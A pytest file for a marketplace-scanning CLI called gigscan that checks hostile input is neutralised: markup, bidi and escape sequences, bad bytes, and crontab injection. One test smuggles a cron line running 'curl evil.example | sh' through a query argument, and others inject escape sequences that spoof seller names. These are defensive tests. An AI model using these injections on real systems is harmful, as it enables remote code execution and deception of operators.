"""Hostile text stays inert and injection finds no door (issue 14): rich markup in scraped or user text, bidi
controls and NUL in the report, bad bytes and NaN into classify, a newline into a crontab, a foreign Host name
(tests/test_gigscan_serve.py), a symlink around the crawl lock."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from crontab import CronTab
from rich.cells import cell_len
from typer.testing import CliRunner

from crawler.unattended import Locked, hold_crawl_locks
from db import Store
from db.exports.flagged import flagged_rows
from db.exports.report import write_html
from db.testing import listing_record, verdict
from gigscan.cli import app

runner = CliRunner()
MARKUP = "[/x] [bold]loud[/bold] [link=https://evil.example]click[/link]"


def gigscan(*args: str, **kwargs):
    return runner.invoke(app, list(args), **kwargs)


# -- rich markup ----------------------------------------------------------------------------------------------


def test_eval_prints_markup_in_labeled_text_as_text(tmp_path):
    labeled = tmp_path / "dev.jsonl"
    rows = [{"id": "[/x]", "title": MARKUP + " buy amazon reviews", "description": "", "label": 0,
             "category": "[bold]cat"}, {"id": "2", "title": "logo design", "description": "", "label": 1}]
    labeled.write_text("".join(json.dumps(row) + "\n" for row in rows))
    result = gigscan("eval", str(labeled))
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code == 0
    assert "[/x]" in result.stdout and "[bold]" in result.stdout


def test_profile_test_prints_scraped_markup_as_text(tmp_path):
    profile = tmp_path / "site.toml"
    profile.write_text(
        '[site]\nmarketplace = "demo"\nbase_url = "https://demo.example/"\nkind = "gig"\n\n'
        '[search]\nurl = "search?q={query}&page={page}"\nlinks = { css = "a.gig::attr(href)" }\n\n'
        '[listing]\nid = { css = "#id::text" }\ntitle = { css = "h1::text" }\nseller = { css = ".seller::text" }\n'
    )
    page = tmp_path / "gig.html"
    page.write_text(f'<html><body><h1>{MARKUP}</h1><span id="id">1</span><span class="seller">[/a]</span>'
                    '<a class="gig" href="/g/[/x]">x</a></body></html>')
    result = gigscan("profile", "test", str(profile), str(page))
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code == 0, result.output
    assert "[/x]" in result.stdout and "[bold]loud[/bold]" in result.stdout


def test_schedule_list_prints_markup_in_arguments_as_text(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    crontab = tmp_path / "crontab"
    added = gigscan("schedule", "add", "n1", "--crontab-file", str(crontab), "--every", "1d", "--", "crawl",
                    "fiverr", "--query", "[/x] [bold]reviews")
    assert added.exit_code == 0, added.output
    listed = gigscan("schedule", "list", "--crontab-file", str(crontab))
    assert listed.exception is None or isinstance(listed.exception, SystemExit), repr(listed.exception)
    assert listed.exit_code == 0 and "[/x]" in listed.stdout and "[bold]" in listed.stdout


def test_an_error_quoting_user_text_prints_it_as_text():
    result = gigscan("export", "--format", "[/x][bold]")
    assert result.exit_code == 2
    assert "[/x][bold]" in result.stderr and len(result.stderr.strip().splitlines()) == 1


# -- the HTML report ------------------------------------------------------------------------------------------


def test_the_report_shows_bidi_controls_and_nul_instead_of_obeying_them(tmp_path):
    with Store(tmp_path / "s.db") as store:
        run = store.start_run("crawl", "fiverr", {}, "r1", "0.1.0")
        title = "reviews \u202egnp.exe\u202c and\x00 more \u2067x\u2069"
        store.record_batch(run, [listing_record(title=title, seller="ev\u202eil", verdict=verdict())])
        out = tmp_path / "r.html"
        with out.open("w", encoding="utf-8") as fh:
            write_html(store, flagged_rows(store), fh)
    page = out.read_text(encoding="utf-8")
    for char in ("\u202e", "\u202c", "\x00", "\u2067", "\u2069"):
        assert char not in page
    assert "[U+202E]gnp.exe[U+202C]" in page and "and[U+0000] more" in page and "ev[U+202E]il" in page


# -- the terminal ---------------------------------------------------------------------------------------------


def test_scraped_escape_sequences_never_reach_the_terminal(tmp_path):
    """"\x1b[2K\x1b[1G" erased the line so far: the analyst read "victim_seller" for the stored name."""
    name = "spammer\x1b[2K\x1b[1Gvictim_seller"
    title = "reviews \x1b]52;c;cHduZWQ=\x1b\\ \x1b[8mhidden\x1b[0m \u202egnp.exe \x9b2J"
    db = str(tmp_path / "s.db")
    with Store(db) as store:
        run = store.start_run("crawl", "fiverr", {}, "r1", "0.1.0")
        store.record_batch(run, [listing_record(title=title, seller=name, verdict=verdict())])
    for args in (["search", name], ["history", name], ["review"]):
        result = gigscan(*args, "--db", db)
        shown = result.stdout + result.stderr
        assert not {"\x1b", "\x9b", "\u202e"} & set(shown), (args, shown)
    shown = gigscan("search", name, "--db", db).stdout
    assert "spammer\\u001b[2K\\u001b[1Gvictim_seller" in shown
    # escaped before the table is laid out: every line of a table is as wide as its border (it was not)
    table = [line for line in gigscan("review", "--db", db).stdout.splitlines() if line[:1] in "┏┃┡│└"]
    assert len(table) > 4 and len({cell_len(line) for line in table}) == 1, table


# -- classify -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b'{"id": 1, "title": "ok"}\n{"id": 2, "title": "caf\xe9"}\n', "line 2: not UTF-8"),
        (b'{"id": NaN, "title": "x"}\n', "line 1: not valid JSON (NaN"),
        (b'{"id": 1e999, "title": "x"}\n', "line 1: not valid JSON (1e999"),
        (b'{"id": -Infinity}\n', "line 1: not valid JSON (-Infinity"),
    ],
)
def test_classify_answers_bad_bytes_and_non_json_numbers_with_one_line(data, message):
    result = gigscan("classify", "-", input=data)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code == 2
    assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1
    for line in result.stdout.splitlines():  # whatever was written before the bad line is valid JSON
        assert json.loads(line)["id"] == 1


def test_classify_reads_a_file_with_a_bom_and_writes_only_json(tmp_path):
    path = tmp_path / "in.jsonl"
    path.write_bytes(b'\xef\xbb\xbf{"id": 1.5, "title": "buy amazon reviews"}\n')
    result = gigscan("classify", str(path))
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["id"] == 1.5


def test_eval_refuses_a_non_utf8_file_with_one_line(tmp_path):
    path = tmp_path / "dev.jsonl"
    path.write_bytes(b'{"id": 1, "title": "\xff", "label": 1}\n')
    result = gigscan("eval", str(path))
    assert result.exit_code == 2 and "not UTF-8" in result.stderr


@pytest.mark.parametrize(("data", "message"), [
    (b"", "no labeled rows"),
    (b"\n  \n", "no labeled rows"),
    (b'{"id": 1, "title": "buy reviews", "label": true}\n', 'line 1: "label" must be 0 or 1'),
    (b'{"id": 1, "title": "buy reviews", "label": 1.0}\n', 'line 1: "label" must be 0 or 1'),
])
def test_eval_refuses_a_file_that_measures_nothing_or_holds_no_label(tmp_path, data, message):
    """An empty file said "0 rows" and exit 0; JSON true passed as the label 1."""
    path = tmp_path / "team.jsonl"
    path.write_bytes(data)
    result = gigscan("eval", str(path))
    assert result.exit_code == 2 and message in result.stderr, result.output


@pytest.mark.parametrize("command", [["eval", "--errors"], ["classify"]])
def test_half_a_utf16_pair_in_a_labeled_file_is_one_line(tmp_path, command):
    """JSON can escape a lone surrogate; eval printed the title and died on UnicodeEncodeError (exit 1)."""
    path = tmp_path / "dev.jsonl"
    path.write_text('{"id": 1, "title": "buy amazon reviews", "label": 1}\n'
                    '{"id": 2, "title": "x\\ud800 buy amazon reviews", "label": 0}\n')
    result = gigscan(*command, str(path))
    assert result.exit_code == 2 and "line 2: a string escapes half a UTF-16 pair" in result.stderr, result.output
    assert len(result.stderr.strip().splitlines()) == 1


# -- injection ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("hostile", ["x\n* * * * * curl evil.example | sh", "x\r", "x\x00y", "x\u2028y"])
def test_a_control_character_in_a_scheduled_crawl_is_refused(tmp_path, monkeypatch, hostile):
    monkeypatch.chdir(tmp_path)
    crontab = tmp_path / "crontab"
    crontab.write_text("17 4 * * * /usr/bin/backup  # not ours\n")
    before = crontab.read_text()
    result = gigscan("schedule", "add", "n1", "--crontab-file", str(crontab), "--every", "6h", "--", "crawl",
                     "fiverr", "--query", hostile)
    assert result.exit_code == 2 and "control characters" in result.stderr
    assert crontab.read_text() == before
    assert [job.comment for job in CronTab(tabfile=str(crontab))] == ["not ours"]


def test_a_newline_in_a_cron_expression_is_refused(tmp_path):
    crontab = tmp_path / "crontab"
    result = gigscan("schedule", "add", "n1", "--crontab-file", str(crontab), "--cron", "0 * * * *\n* * * * * id",
                     "--", "crawl", "fiverr")
    assert result.exit_code == 2 and not crontab.exists()


def test_a_symlink_to_the_store_takes_the_same_crawl_lock(tmp_path):
    db = tmp_path / "x.db"
    db.write_bytes(b"")
    alias = tmp_path / "other" / "alias.db"
    alias.parent.mkdir()
    alias.symlink_to(db)
    held = hold_crawl_locks(db, ["fiverr"])
    try:
        with pytest.raises(Locked):
            hold_crawl_locks(alias, ["fiverr"])
        with pytest.raises(Locked):
            hold_crawl_locks(tmp_path / "other" / ".." / "x.db", ["fiverr"])
    finally:
        for lock in held:
            lock.release()
    assert Path(hold_crawl_locks(alias, ["fiverr"])[0].lock_file).parent == tmp_path / ".gigscan" / "locks"


# -- page caps ------------------------------------------------------------------------------------------------


def test_a_page_with_ten_thousand_links_yields_at_most_the_caps():
    from scrapy import Request
    from scrapy.http import HtmlResponse
    from scrapy.settings import Settings
    from scrapy.utils.test import get_crawler

    import crawler.settings as project
    from crawler.items import Listing, Seller
    from crawler.middlewares import PageCapMiddleware

    settings = Settings()
    settings.setmodule(project)
    assert "crawler.middlewares.PageCapMiddleware" in settings.getdict("SPIDER_MIDDLEWARES")
    settings.set("TWISTED_REACTOR_ENABLED", False)  # no crawl: no reactor needed
    crawler = get_crawler(settings_dict=dict(settings))
    crawler.stats.open_spider()
    middleware = PageCapMiddleware.from_crawler(crawler)
    page = HtmlResponse("https://www.fiverr.com/search/gigs?query=x", body=b"<html></html>",
                        request=Request("https://www.fiverr.com/search/gigs?query=x"))
    output = []
    for n in range(10_000):
        output.append(Listing("fiverr", str(n), f"https://www.fiverr.com/s/{n}", "s", "t"))
        output.append(Request(f"https://www.fiverr.com/s/{n}"))
    output.append(Seller("fiverr", "s", "https://www.fiverr.com/s"))
    kept = list(middleware.process_spider_output(page, iter(output)))
    cap_listings = settings.getint("GIGSCAN_MAX_LISTINGS_PER_PAGE")
    cap_links = settings.getint("GIGSCAN_MAX_LINKS_PER_PAGE")
    assert sum(isinstance(o, Listing) for o in kept) == cap_listings
    assert sum(isinstance(o, Request) for o in kept) == cap_links
    assert isinstance(kept[-1], Seller)  # other items pass
    stats = crawler.stats.get_stats()
    assert stats["gigscan/page_cap/listings_dropped"] == 10_000 - cap_listings
    assert stats["gigscan/page_cap/links_dropped"] == 10_000 - cap_links
    assert stats["gigscan/page_cap/pages_over_listings_cap"] == 1
    start = list(middleware.process_spider_output(None, iter([Request("https://x.example")] * 2000)))
    assert len(start) == 2000  # the user's start requests are never cut


@pytest.mark.parametrize(
    "args",
    [
        ["search", "\udcff"],
        ["history", "caf\udce9"],
        ["buyers", "\udcff"],
        ["runs", "--limit", "99999999999999999999"],
        ["export", "--format", "csv", "--output", "{tmp}/x.csv", "--marketplace", "\udcff"],
        ["crawl", "fiverr", "--base-url", "http://127.0.0.1:9", "--query", "caf\udce9"],
    ],
)
def test_arguments_that_are_not_utf8_or_too_large_are_one_line(tmp_path, args):
    """A name typed in Latin-1 (argv bytes that are not UTF-8, which Python holds as lone surrogates) was a
    UnicodeEncodeError traceback from SQLite, and a crawl ran to "start_error"; a limit beyond SQLite's integers
    an OverflowError. Each is one line and exit 2, and the crawl records no run."""
    db = tmp_path / "gigscan.db"
    with Store(db) as store:
        store.record_batch(store.start_run("crawl", "fiverr", {}, "r1", "0.1.0"), [listing_record()])
    result = gigscan(*(arg.format(tmp=tmp_path) for arg in args), "--db", str(db))
    assert result.exit_code == 2 and "Traceback" not in result.output, result.output
    assert len(result.output.strip().splitlines()) == 1, result.output
    with Store(db) as store:
        assert store.conn.execute("SELECT COUNT(*) FROM runs").fetchone()[0] == 1
